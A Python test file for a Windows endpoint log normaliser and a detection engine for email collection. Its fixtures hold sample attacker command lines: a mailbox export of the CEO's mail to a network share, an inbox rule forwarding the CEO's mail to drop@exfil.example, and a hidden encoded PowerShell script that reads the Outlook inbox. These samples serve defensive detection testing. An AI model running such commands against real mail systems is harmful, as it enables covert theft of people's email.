"""The Windows endpoint normaliser: Sysmon, Security and CIM shapes in, process/file events out."""

from app.normalise import NormaliseContext, normalise
from app.normalise.cmdlet_text import cmdlet_pattern
from app.normalise.windows_endpoint import access_names, bare_account, base_name
from app.problems import ProblemLog


def context(cmdlets=("New-MailboxExportRequest",)):
    return NormaliseContext(frozenset(), cmdlet_pattern(cmdlets), {}, ProblemLog())


def test_access_names_from_codes_words_and_mask():
    assert access_names("%%4416\n\t%%4423", "") == ("readdata", "readattributes")
    assert "readdata" in access_names("ReadData (or ListDirectory)", "")
    assert set(access_names("", "0x120089")) >= {"readdata", "readea", "readattributes", "read_control", "synchronize"}
    assert access_names("", "0x80000000") == ("generic_read",)
    assert access_names("", "2") == ("writedata",)
    assert access_names("", "not-a-mask") == ()


def test_names_and_accounts():
    assert base_name(r"C:\Windows\System32\cmd.exe") == "cmd.exe"
    assert base_name("/usr/bin/x") == "x"
    assert base_name("cmd.exe") == "cmd.exe"
    assert bare_account(r"CONTOSO\svc_backup") == "svc_backup"
    assert bare_account("svc_backup@contoso.com") == "svc_backup"


def test_sysmon_process_event_fields():
    events = normalise({
        "sourcetype": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational", "EventCode": "1",
        "Computer": "ws-1", "User": r"CONTOSO\bob", "Image": r"C:\Windows\System32\cmd.exe",
        "CommandLine": "cmd /c dir", "ParentImage": r"C:\Windows\explorer.exe"}, context())
    assert len(events) == 1
    event = events[0]
    assert (event.source, event.operation, event.actor, event.dest) == ("process", "ProcessCreate", r"CONTOSO\bob", "ws-1")
    assert event.extra["process_name"] == "cmd.exe"
    assert event.extra["parent_process_name"] == "explorer.exe"
    assert event.extra["account_name"] == "bob"
    assert event.text == "cmd /c dir"


def test_process_command_line_yields_cmdlet_events():
    record = {
        "sourcetype": "XmlWinEventLog", "EventCode": "4688", "Computer": "ex01",
        "SubjectUserName": "exadmin", "SubjectDomainName": "CONTOSO",
        "NewProcessName": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "CommandLine": r'powershell -c "New-MailboxExportRequest -Mailbox ceo -FilePath \\10.0.0.9\c$\ceo.pst"'}
    events = normalise(record, context())
    assert [e.operation for e in events] == ["ProcessCreate", "New-MailboxExportRequest"]
    cmdlet = events[1]
    assert cmdlet.source == "process"
    assert cmdlet.parameters["filepath"] == r"\\10.0.0.9\c$\ceo.pst"
    assert cmdlet.mailbox == "ceo"
    assert (cmdlet.actor, cmdlet.dest) == (r"CONTOSO\exadmin", "ex01")


def test_forwarding_cmdlet_rule_fires_on_a_sysmon_command_line(engine):
    record = {
        "sourcetype": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational", "EventCode": "1",
        "Computer": "ws-9", "User": r"CONTOSO\ops",
        "Image": r"C:\Program Files\PowerShell\7\pwsh.exe",
        "CommandLine": 'pwsh -c "New-InboxRule -Mailbox ceo@contoso.com -Name s -ForwardTo drop@exfil.example"'}
    assert "t1114_003_inbox_rule_forward_cmdlet" in [f.rule.id for f in engine.detect(record)]


def test_powershell_4104_still_goes_to_the_script_block_normaliser():
    events = normalise({"sourcetype": "XmlWinEventLog", "EventCode": "4104", "Computer": "ws",
                        "ScriptBlockText": "Get-Date", "Image": "x"}, context())
    assert [(e.source, e.operation) for e in events] == [("powershell", "ScriptBlock")]


def test_sysmon_xml_raw_only():
    raw = ("<Event><System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>11</EventID>"
           "<Computer>ws-5</Computer></System><EventData><Data Name='Image'>C:\\x.exe</Data>"
           "<Data Name='TargetFilename'>C:\\Temp\\a.pst</Data><Data Name='User'>CONTOSO\\amy</Data></EventData></Event>")
    events = normalise({"sourcetype": "XmlWinEventLog", "_raw": raw}, context())
    assert [(e.operation, e.extra["file_path"], e.dest, e.actor) for e in events] == [
        ("FileCreate", r"C:\Temp\a.pst", "ws-5", r"CONTOSO\amy")]


def test_unrelated_windows_events_are_ignored():
    assert normalise({"sourcetype": "XmlWinEventLog", "EventCode": "4624", "TargetUserName": "bob"}, context()) == []
    assert normalise({"sourcetype": "XmlWinEventLog", "EventCode": "1", "Message": "x"}, context()) == []
    assert normalise({"sourcetype": "XmlWinEventLog", "_raw": "<Event><EventID>4624</EventID></Event>"}, context()) == []


def test_dash_values_count_as_missing():
    events = normalise({"sourcetype": "XmlWinEventLog", "EventCode": "4688", "SubjectUserName": "-",
                        "NewProcessName": r"C:\a.exe", "CommandLine": "-"}, context())
    assert events[0].actor == "" and events[0].text == ""


def test_odd_values_do_not_raise(engine):
    for record in (
        {"EventCode": "4663", "ObjectName": ["a.pst", "b.ost"], "ProcessName": None, "AccessMask": "0xZZ"},
        {"EventCode": "5145", "RelativeTargetName": "", "ShareName": 5},
        {"process_path": "", "process_name": ""},
        {"Processes.process": "x" * 100000 + ".pst", "Processes.process_name": "x.exe"},
        {"_raw": "<Event" + "<Data Name='a'>" * 1000},
    ):
        out = dict(record)
        engine.annotate(out)
        assert "t1114_status" in out
    assert not [m for m in engine.problems.messages() if m.startswith("An event could not be checked")]


def test_encoded_command_is_decoded_into_text(engine):
    import base64
    script = "$o = New-Object -ComObject Outlook.Application; $o.GetNamespace('MAPI').GetDefaultFolder(6).Items"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode("ascii")
    record = {"sourcetype": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational", "EventCode": "1",
              "Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
              "CommandLine": "powershell.exe -NoP -W Hidden -enc " + encoded}
    events = normalise(record, context())
    assert events[0].extra["decoded_command"] == script
    assert engine.annotate(record)
    assert record["t1114_rule"] == "t1114_001_outlook_automation_script"
    assert record["t1114_severity"] == "high"


def test_not_an_encoded_command():
    for line in ("powershell -ErrorAction SilentlyContinue -File x.ps1", "cmd /c echo -e hello",
                 "powershell -enc !!!notbase64!!!"):
        events = normalise({"sourcetype": "XmlWinEventLog", "EventCode": "4688",
                            "NewProcessName": r"C:\p.exe", "CommandLine": line}, context())
        assert events[0].extra["decoded_command"] == ""


def test_base64_looking_word_is_not_decoded():
    events = normalise({"sourcetype": "XmlWinEventLog", "EventCode": "4688", "NewProcessName": r"C:\p.exe",
                        "CommandLine": "tool.exe -e SilentlyContinueAndMore"}, context())
    assert events[0].extra["decoded_command"] == ""
